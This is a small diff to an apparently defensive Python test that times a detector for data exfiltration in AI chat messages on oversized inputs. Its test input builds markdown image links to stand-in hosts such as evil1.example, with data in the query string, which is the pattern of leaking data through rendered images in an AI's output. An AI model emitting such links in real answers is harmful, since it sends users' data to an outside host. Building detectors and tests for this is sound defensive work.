@@ -105,4 +105,6 @@ def test_long_answers_and_texts_take_their_time_within_reason() -> None:
     answer = "".join(f"![](https://evil{at}.example/?q={'ab%20' * 40})" for at in range(60)) + "![" * 2_000
     begun = time.process_time()
     find_exfiltration(answer, pieces)
+    solid = Piece(("messages", 4, "content"), "evil1.example" + "x" * 50_000, Privilege.TOOL, "tool:x")
+    find_exfiltration(answer, [*pieces, solid])
     assert time.process_time() - begun < 2
